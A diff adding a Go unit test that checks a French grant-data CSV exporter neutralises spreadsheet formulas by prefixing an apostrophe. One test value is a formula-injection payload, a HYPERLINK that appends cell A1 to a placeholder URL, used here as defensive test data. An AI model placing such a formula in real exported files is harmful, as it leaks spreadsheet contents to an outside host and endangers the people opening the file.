@@ -2,6 +2,7 @@ package opendata_test
 
 import (
 	"bytes"
+	"encoding/csv"
 	"errors"
 	"math"
 	"os"
@@ -218,4 +219,21 @@ func TestWriteSCDLReportsEveryBadGrant(t *testing.T) {
 	require.Equal(t, [2]int{2, 5}, [2]int{ee.Errors[0].Row, ee.Errors[1].Row})
 	require.Contains(t, ee.Error(), "subvention n° 1 (ligne 2 du fichier), colonne pourcentageSubvention")
 	require.Contains(t, ee.Error(), "subvention n° 4 (ligne 5 du fichier), colonne idBeneficiaire")
+}
+
+func TestWriteSCDLNeutralisesFormulasAndStaysValid(t *testing.T) {
+	t.Parallel()
+	grants := grants93()[:1]
+	grants[0].NomBeneficiaire = `=HYPERLINK("http://x"&A1,"clic")`
+	grants[0].Objet = "@" + strings.Repeat("x", 400) // truncated to 256, apostrophe included
+	grants[0].DispositifAide = "-1+1"
+	var buf bytes.Buffer
+	require.NoError(t, opendata.WriteSCDL(&buf, grants))
+	require.Empty(t, opendata.ValidateSCDLStrict(bytes.NewReader(buf.Bytes())))
+	rows, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
+	require.NoError(t, err)
+	require.Equal(t, `'=HYPERLINK("http://x"&A1,"clic")`, rows[1][4])
+	require.Equal(t, "'@"+strings.Repeat("x", 254), rows[1][7], "256 characters with the apostrophe")
+	require.Equal(t, "45000.00", rows[1][8], "the amount is typed: unchanged")
+	require.Equal(t, "'-1+1", rows[1][15])
 }
